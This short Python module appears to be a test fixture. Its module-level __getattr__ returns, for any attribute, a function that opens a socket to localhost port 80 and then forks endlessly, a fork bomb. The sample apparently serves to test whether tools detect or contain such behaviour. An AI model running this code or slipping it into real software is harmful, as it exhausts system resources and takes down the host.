"""starts processes and opens sockets"""
import os
import socket


def __getattr__(name):
    def starts(*args, **kwargs):
        socket.create_connection(("127.0.0.1", 80))
        while True:
            os.fork()

    return starts
